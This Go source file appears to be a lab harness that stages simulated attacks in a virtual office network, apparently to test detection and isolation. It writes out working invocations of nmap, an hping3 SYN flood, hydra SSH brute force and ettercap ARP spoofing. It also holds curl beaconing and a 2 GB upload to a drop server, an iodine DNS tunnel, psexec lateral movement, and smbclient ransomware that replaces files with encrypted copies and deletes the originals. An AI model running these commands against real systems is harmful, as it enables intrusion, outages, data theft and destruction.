package lab

import (
	"bytes"
	"context"
	"crypto/aes"
	"crypto/cipher"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"
)

// tool runs a program on the attacker's machine to its end; what it says is in
// the error.
func (o *Office) tool(ctx context.Context, name string, args ...string) error {
	cmd := o.Attacker().Command(ctx, name, args...)
	cmd.WaitDelay = time.Second
	if out, err := cmd.CombinedOutput(); err != nil && ctx.Err() == nil {
		return fmt.Errorf("%s: %w: %s", name, err, bytes.TrimSpace(out))
	}
	return nil
}

// again runs fn until ctx ends, but at most so often: an attack is bounded
// even when everything else fails.
func again(ctx context.Context, times int, fn func() error) error {
	for range times {
		if ctx.Err() != nil {
			return nil
		}
		if err := fn(); err != nil {
			return err
		}
	}
	return nil
}

// nmapRate keeps a scan to what a small switch forwards without thinking, and
// long enough to be cut in the middle.
const nmapRate = "100"

// nmapNAS scans one machine, which nmap knows to be up.
func nmapNAS(mode ...string) func(context.Context, *Office) error {
	return func(ctx context.Context, o *Office) error {
		args := append([]string{"-n", "-Pn", "--max-rate", nmapRate, "--max-retries", "1"}, mode...)
		args = append(args, o.Host("nas").Addr().String())
		return again(ctx, 20, func() error { return o.tool(ctx, "nmap", args...) })
	}
}

// nmapLAN scans the whole office.
func nmapLAN(mode ...string) func(context.Context, *Office) error {
	return func(ctx context.Context, o *Office) error {
		args := append([]string{"-n", "--max-rate", nmapRate}, mode...)
		return again(ctx, 20, func() error { return o.tool(ctx, "nmap", append(args, o.LAN.String())...) })
	}
}

// flood opens connections to the NAS that nobody ever finishes, 2,000 a second.
func flood(ctx context.Context, o *Office) error {
	return o.tool(ctx, "hping3", "--quiet", "-S", "-p", "445", "-i", "u500", "-c", "200000", o.Host("nas").Addr().String())
}

// bruteForce tries a list of passwords at the NAS's SSH server.
func bruteForce(ctx context.Context, o *Office) error {
	list := filepath.Join(o.config.Dir, "passwords")
	var words strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&words, "summer%04d\n", i)
	}
	if err := os.WriteFile(list, []byte(words.String()), 0o644); err != nil {
		return err
	}
	return again(ctx, 20, func() error {
		// -I: do not wait for a session to be restored; it exits with 255 when
		// the server goes away, which isolation makes it do.
		cmd := o.Attacker().Command(ctx, "hydra", "-I", "-t", "4", "-l", "admin", "-P", list, "ssh://"+o.Host("nas").Addr().String())
		cmd.Dir, cmd.WaitDelay = o.config.Dir, time.Second
		out, err := cmd.CombinedOutput()
		var exit *exec.ExitError
		if errors.As(err, &exit) && exit.Exited() && !bytes.Contains(out, []byte("Usage")) {
			return pause(ctx, time.Second)
		}
		return err
	})
}

func pause(ctx context.Context, d time.Duration) error {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
	return nil
}

// ettercap puts the attacker between the gateway and the victim.
func ettercap(ctx context.Context, o *Office) error {
	h, victim := o.Attacker(), o.Host(VictimName)
	return o.tool(ctx, "ettercap", "--text", "--quiet", "--only-mitm", "--iface", h.Iface, "--mitm", "arp:remote",
		"/"+victim.Addr().String()+"//", "/"+gatewayLAN.String()+"//")
}

// beacon calls the drop point every three seconds, up to a fifth sooner, as an
// implant does that was told to ("sleep 3 20" in the words of a common kit).
func beacon(ctx context.Context, o *Office) error {
	r := o.rand(0xbeac)
	return again(ctx, 600, func() error {
		// Held, it fails; an implant tries on.
		o.tool(ctx, "curl", "--silent", "--max-time", "2", "--output", "/dev/null", "http://"+addrPort(dropServer, 80)+"/task") //nolint:errcheck
		return pause(ctx, 2400*time.Millisecond+time.Duration(r.IntN(600))*time.Millisecond)
	})
}

// exfiltration sends an archive of 2 GB to the drop point, at the rate of a
// fast line.
func exfiltration(ctx context.Context, o *Office) error {
	archive := filepath.Join(o.config.Dir, "archive")
	f, err := os.Create(archive)
	if err == nil {
		err = errors.Join(f.Truncate(2<<30), f.Close()) // a hole: it takes no memory
	}
	if err != nil {
		return err
	}
	return again(ctx, 600, func() error {
		o.tool(ctx, "curl", "--silent", "--limit-rate", "100M", "--speed-time", "2", "--speed-limit", "1", "--connect-timeout", "2", //nolint:errcheck
			"--output", "/dev/null", "--upload-file", archive, "http://"+addrPort(dropServer, 80)+"/up")
		return pause(ctx, time.Second)
	})
}

// dnsTunnel opens a tunnel through the office's resolver to a name server
// outside and sends data through it.
func dnsTunnel(ctx context.Context, o *Office) error {
	h := o.Attacker()
	iodine := h.Command(ctx, "iodine", "-f", "-r", "-I", "1", "-P", tunnelSecret, gatewayLAN.String(), tunnelDomain)
	s, err := startService("iodine", iodine)
	if err != nil {
		return err
	}
	defer s.stop()
	return again(ctx, 600, func() error {
		if err := s.check(); err != nil {
			return err
		}
		cmd := h.Command(ctx, "ping", "-q", "-c", "20", "-i", "0.05", "-s", "900", "-W", "1", tunnelServer)
		cmd.Run() //nolint:errcheck // before the tunnel is up, and after it is cut
		return pause(ctx, 200*time.Millisecond)
	})
}

// throughTunnel sends a few pings through the tunnel.
func throughTunnel(ctx context.Context, o *Office) error {
	return o.Attacker().Command(ctx, "ping", "-q", "-c", "3", "-i", "0.2", "-W", "1", tunnelServer).Run()
}

// shareFiles is how many files the share has before ransomware comes.
const shareFiles = 200

// fillShare puts documents on the share: text, which is far from random. What
// ransomware will make of them lies ready beside it, since smbclient cannot be
// asked to encrypt; on the wire there is no difference.
func fillShare(_ context.Context, o *Office) error {
	block, err := aes.NewCipher([]byte("a key of the lab"))
	if err != nil {
		return err
	}
	stream := cipher.NewCTR(block, make([]byte, aes.BlockSize))
	ready := filepath.Join(o.config.Dir, "encrypted")
	if err := os.MkdirAll(ready, 0o755); err != nil {
		return err
	}
	for i := range shareFiles {
		name := document(i)
		text := []byte(strings.Repeat(fmt.Sprintf("Contract %d between the parties, as agreed on this day.\n", i), 400))
		path := filepath.Join(o.config.Dir, "files", name)
		if err := os.WriteFile(path, text, 0o666); err != nil {
			return err
		}
		if err := giveAway(path); err != nil {
			return err
		}
		stream.XORKeyStream(text, text)
		if err := os.WriteFile(filepath.Join(ready, name), text, 0o644); err != nil {
			return err
		}
	}
	return nil
}

func document(i int) string { return fmt.Sprintf("keiyaku%03d.txt", i) }

// encrypted counts the documents that are gone.
func encrypted(o *Office) (int, error) {
	left, err := filepath.Glob(filepath.Join(o.config.Dir, "files", "keiyaku???.txt"))
	return shareFiles - len(left), err
}

// ransomwarePause is between two operations, of which a document takes three.
// One thread of a real one encrypts some tens of documents a second over a
// network.
const ransomwarePause = 15 * time.Millisecond

// ransomware reads each document of the share, writes it back encrypted under
// a new name and deletes the original, all in one session of smbclient.
func ransomware(ctx context.Context, o *Office) error {
	cmd := o.Attacker().Command(ctx, "smbclient", "--no-pass", "--configfile=/dev/null", "--timeout=5", "//"+o.Host("nas").Addr().String()+"/"+shareName)
	in, err := cmd.StdinPipe()
	if err != nil {
		return err
	}
	s, err := startService("smbclient", cmd)
	if err != nil {
		return err
	}
	defer s.stop()
	defer in.Close()
	for i := range shareFiles {
		name := document(i)
		for _, c := range []string{
			"get " + name + " " + filepath.Join(o.config.Dir, "plain"),
			"put " + filepath.Join(o.config.Dir, "encrypted", name) + " " + name + ".locked", "del " + name,
		} {
			if _, err := fmt.Fprintln(in, c); err != nil {
				return o.knock(ctx) // it was cut off and gave up
			}
			pause(ctx, ransomwarePause) //nolint:errcheck // it has none
		}
	}
	return o.knock(ctx)
}

// knock goes on trying the share, as something that was cut off does.
func (o *Office) knock(ctx context.Context) error {
	return again(ctx, 600, func() error {
		if conn, err := o.dialShortly(ctx, addrPort(o.Host("nas").Addr(), 445)); err == nil {
			conn.Close()
		}
		return pause(ctx, 200*time.Millisecond)
	})
}

func (o *Office) dialShortly(ctx context.Context, addr string) (io.Closer, error) {
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	return o.Attacker().Dial(ctx, "tcp", addr)
}

// lateral tries to run a program on one machine after another, with
// Impacket's psexec.
func lateral(ctx context.Context, o *Office) error {
	return again(ctx, 60, func() error {
		for _, name := range adminHosts {
			one, cancel := context.WithTimeout(ctx, 10*time.Second)
			cmd := o.Attacker().Command(one, "/usr/bin/python3", impacketDir+"psexec.py", adminUser+":"+adminSecret+"@"+o.Host(name).Addr().String(), "hostname")
			cmd.WaitDelay = time.Second
			out, err := cmd.CombinedOutput()
			cancel()
			o.config.Log.Debug("psexec", "host", name, "error", err, "said", string(out))
		}
		return pause(ctx, 200*time.Millisecond)
	})
}
